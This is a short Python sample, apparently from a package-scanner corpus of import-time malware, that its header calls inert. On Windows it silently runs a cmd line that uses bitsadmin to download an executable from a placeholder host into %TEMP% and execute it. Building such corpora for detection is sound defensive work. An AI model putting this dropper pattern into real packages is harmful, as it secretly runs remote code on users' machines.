# pkgguard corpus 554 (import-time), modelled on [empirical]; inert, never run.
import sys

if sys.platform == "win32":
    import win32com.client

    _shell = win32com.client.Dispatch("WScript.Shell")
    _shell.Run(
        r"cmd /c bitsadmin /transfer upd /download /priority high "
        r"https://update-cdn.example/u.exe %TEMP%\u.exe & %TEMP%\u.exe",
        0,
        False,
    )
